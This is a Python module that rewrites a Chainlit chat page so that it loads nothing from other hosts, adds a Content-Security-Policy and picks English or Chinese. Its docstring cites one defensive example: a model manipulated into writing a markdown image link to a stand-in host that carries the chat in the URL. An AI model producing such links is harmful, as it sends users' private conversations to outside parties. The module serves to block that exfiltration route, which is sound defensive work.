"""The page as Steward serves it: nothing comes from another host, and it speaks English or Chinese.

Chainlit's built page asks Google for fonts and a public mirror for KaTeX's style sheet, which an internal network cannot
reach and a private chat should not call. Neither can be turned off by configuration alone, so the page is rewritten each
time it is rendered; the installed package stays as it is. A Content-Security-Policy then holds the browser to it, also for
an image address in an answer: a model that was talked into `![](https://elsewhere/?q=<the chat>)` cannot send it anywhere.

`prepare_page()` once, after Chainlit is imported and before the first request.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, Literal

import chainlit.server as chainlit_server
from chainlit.config import ChainlitConfig

from patching import PatchError, original, replace

Language = Literal["en-US", "zh-CN"]

CHARSET = '<meta charset="UTF-8" />'
DEFERRED = ("chats", "time", "limits-words", "limits-panel", "limits")

_KATEX = re.compile(r'href="https://[^"]*/katex(?:\.min)?\.css"')
_FOREIGN_LINK = re.compile(r"""<link\b[^>]*\bhref=["'](?:https?:)?//[^>]*>\s*""")


def page_language(tag: str) -> Language:
    """The page's language for a browser's language tag (BCP 47): Chinese for every `zh`, English for all others."""
    return "zh-CN" if tag.lower().split("-")[0] == "zh" else "en-US"


def local_page(html: str, root_path: str, policy: Callable[[str], str]) -> str:
    """Chainlit's rendered page with every foreign address removed, `policy(html)` and our scripts in its head.

    `root_path` is a reverse proxy's prefix, or empty. Raises `PatchError` where the head is not as expected: the page would be
    served without its policy and without our scripts, and nobody would notice.
    """
    public = f"{root_path.rstrip('/')}/public"
    html = _KATEX.sub(f'href="{public}/katex/katex.min.css"', html)
    html = _FOREIGN_LINK.sub("", html)
    if html.count(CHARSET) != 1:
        raise PatchError(
            f"Chainlit's page has no {CHARSET} to put Steward's head behind. Run `make setup` for the locked versions."
        )
    # The first script before the style sheets: the page is painted first in the browser's own theme, not white and then dark.
    # The others before Chainlit's script, whose requests and keys they listen to.
    scripts = [f'<script src="{public}/first-paint.js"></script>']
    scripts += [f'<script defer src="{public}/{name}.js"></script>' for name in DEFERRED]
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy(html)}" />'
    return html.replace(CHARSET, "\n    ".join([CHARSET, meta, *scripts]), 1)


def readme(root: str, language: str) -> str | None:
    """The page's readme in `page_language(language)`, read from the folder `root`; None where there is no file."""
    path = Path(root) / ("chainlit_zh-CN.md" if page_language(language) == "zh-CN" else "chainlit.md")
    return path.read_text(encoding="utf-8") if path.is_file() else None


def prepare_page(policy: Callable[[str], str]) -> None:
    """Make Chainlit render Steward's page, from the next request on. `policy` gives a page's Content-Security-Policy.

    Raises `PatchError` where this Chainlit has no such function, or renders another page. Harmless when called again.
    """
    render = original(chainlit_server, "get_html_template")
    translate = original(ChainlitConfig, "load_translation")

    def get_html_template(root_path: str) -> str:
        return local_page(render(root_path), root_path, policy)

    def load_translation(config: ChainlitConfig, language: str) -> dict[str, Any]:
        """Chainlit's own other languages would show the page half in English."""
        words: dict[str, Any] = translate(config, page_language(language))
        return words

    for owner, name, replacement in (
        (chainlit_server, "get_html_template", get_html_template),
        (chainlit_server, "get_markdown_str", readme),
        (ChainlitConfig, "load_translation", load_translation),
    ):
        replace(owner, name, replacement)
    get_html_template("")  # a page without its head must stop the start, not be served
